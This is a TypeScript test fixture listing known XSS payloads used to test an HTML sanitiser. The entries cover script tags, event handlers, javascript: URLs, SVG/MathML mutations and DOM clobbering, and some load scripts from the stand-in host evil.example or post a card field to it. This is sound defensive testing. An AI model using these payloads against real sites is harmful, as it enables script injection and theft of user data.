/**
 * Known XSS payloads: hostile hub HTML for the sanitiser's tests (ui) and the tests of every
 * screen that shows hub HTML (content). Kept in the demo hub, which only tests and the demo
 * use, so one list serves every layer and no shipped package carries it. Each
 * calls `alert(1)` or sets `window.__xss`, the canaries the tests watch; sources: the OWASP XSS
 * filter evasion cheat sheet, the HTML5 Security Cheatsheet and DOMPurify's own bypass history.
 */
export type XssPayload = { kind: string; html: string };

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // Script tags
  { kind: 'script tag', html: '<script>alert(1)</script>' },
  { kind: 'script with src', html: '<script src="https://evil.example/x.js"></script>' },
  { kind: 'script with odd case and attributes', html: '<ScRiPt type="text/javascript">window.__xss=1</sCrIpT>' },
  { kind: 'script split by nested tag', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { kind: 'script in a paragraph', html: '<p>Hello<script>window.__xss=1</script> guest</p>' },
  // Event handlers
  { kind: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { kind: 'img onerror with entities', html: '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">' },
  { kind: 'body onload', html: '<body onload=alert(1)>' },
  { kind: 'div onmouseover', html: '<div onmouseover="window.__xss=1">hover me</div>' },
  { kind: 'a onclick', html: '<a href="https://example.com" onclick="window.__xss=1">click</a>' },
  { kind: 'input autofocus onfocus', html: '<input autofocus onfocus=alert(1)>' },
  { kind: 'details ontoggle', html: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { kind: 'video source onerror', html: '<video><source onerror="window.__xss=1"></video>' },
  { kind: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  { kind: 'handler after slash', html: '<img/src="x"/onerror=alert(1)>' },
  // javascript: and data: URLs
  { kind: 'javascript: link', html: '<a href="javascript:alert(1)">x</a>' },
  { kind: 'javascript: link with entities', html: '<a href="&#106;avascript:alert(1)">x</a>' },
  { kind: 'javascript: link with tab and case', html: '<a href="JaVa\tScRiPt:alert(1)">x</a>' },
  { kind: 'javascript: link with leading spaces', html: '<a href="  javascript:alert(1)">x</a>' },
  { kind: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { kind: 'data: html link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  { kind: 'data: link with charset', html: '<a href="data:text/html;charset=utf-8,<script>alert(1)</script>">x</a>' },
  { kind: 'javascript: image', html: '<img src="javascript:alert(1)">' },
  { kind: 'area javascript:', html: '<map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:alert(1)"></map>' },
  // SVG and MathML
  { kind: 'svg onload', html: '<svg onload=alert(1)>' },
  { kind: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  { kind: 'svg xlink javascript:', html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>' },
  { kind: 'svg animate href', html: '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>' },
  { kind: 'svg foreignObject', html: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>' },
  { kind: 'math href', html: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>' },
  {
    kind: 'math mtext mglyph mutation',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  { kind: 'svg inside math style', html: '<math><mi><svg><style><img src=x onerror=alert(1)></style></svg></mi></math>' },
  // Style injection
  { kind: 'style tag', html: '<style>body{display:none}</style><p>x</p>' },
  { kind: 'style tag closing into markup', html: '<style></style><img src=x onerror=alert(1)>' },
  { kind: 'style attribute url javascript:', html: '<div style="background:url(javascript:alert(1))">x</div>' },
  { kind: 'style attribute expression', html: '<div style="width:expression(alert(1))">x</div>' },
  {
    kind: 'style overlay escaping the container',
    html: '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">Pay here</div>',
  },
  { kind: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  // Broken markup
  { kind: 'unclosed attribute', html: '<img src="x" alt="<script>alert(1)</script>' },
  { kind: 'closing the container early', html: '</div></div><script>window.__xss=1</script><div>' },
  { kind: 'comment breakout', html: '<!--><img src=x onerror=alert(1)>-->' },
  { kind: 'cdata', html: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
  { kind: 'textarea breakout', html: '<textarea><img title="</textarea><img src=x onerror=alert(1)>">' },
  { kind: 'title breakout', html: '<title><img title="</title><img src=x onerror=alert(1)>"></title>' },
  // Forms and buttons
  { kind: 'form with submit button', html: '<form action="https://evil.example"><input name="card"><button>Pay</button></form>' },
  { kind: 'button with formaction', html: '<button formaction="javascript:alert(1)">Go</button>' },
  { kind: 'input type image formaction', html: '<input type="image" src="x" formaction="https://evil.example">' },
  { kind: 'isindex', html: '<isindex type=image src=1 onerror=alert(1)>' },
  { kind: 'select and option', html: '<select><option>card</option></select>' },
  // Meta, frames and embedded content
  { kind: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { kind: 'iframe', html: '<iframe src="https://evil.example"></iframe>' },
  { kind: 'iframe javascript:', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { kind: 'iframe srcdoc', html: '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>' },
  { kind: 'object data', html: '<object data="javascript:alert(1)"></object>' },
  { kind: 'embed', html: '<embed src="data:text/html,<script>alert(1)</script>">' },
  { kind: 'frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
  { kind: 'base href', html: '<base href="https://evil.example/"><a href="/menu">menu</a>' },
  // Template, noscript and other parser mutations
  { kind: 'template content', html: '<template><img src=x onerror=alert(1)></template>' },
  // A leading <template> is parsed into <head> and dropped; after text it stays in the body.
  { kind: 'template after text', html: '<p>Menu</p><template><img src=x onerror=alert(1)></template>' },
  { kind: 'noscript mutation', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { kind: 'noembed mutation', html: '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>' },
  { kind: 'xmp mutation', html: '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { kind: 'form in table mutation', html: '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>' },
  { kind: 'DOM clobbering by name', html: '<img name="getElementById"><form id="location"></form>' },
  { kind: 'DOM clobbering by id', html: '<a id="__xss" href="https://example.com">x</a>' },
];
